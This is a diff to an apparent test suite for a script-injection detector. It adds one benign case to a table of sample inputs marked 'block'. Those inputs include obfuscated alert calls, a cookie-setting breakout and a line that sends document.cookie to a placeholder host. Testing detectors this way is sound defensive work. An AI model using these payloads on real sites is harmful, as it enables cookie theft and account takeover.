@@ -20,6 +20,7 @@ testDetector(
         { text: "window[/*a*/'alert'/*b*/](1)", want: "block", why: "with comments" },
         { text: '\';self /*x*/ [ "ale\\x72t" ](1)//', want: "block", why: "white space and escapes" },
         { text: "a=alert;a(1)", want: "block", why: "under another name", technique: "handed-on-function" },
+        { text: "SELECT (prompt)", want: "pass", why: "a remark behind a word" },
         { text: "[1].find(alert)", want: "block", why: "handed to another function" },
         { text: "';document.cookie='a=1", want: "block", why: "sets a cookie", technique: "page-access" },
         { text: "';location='//example.test/'+document.cookie//", want: "block", why: "sends it" },
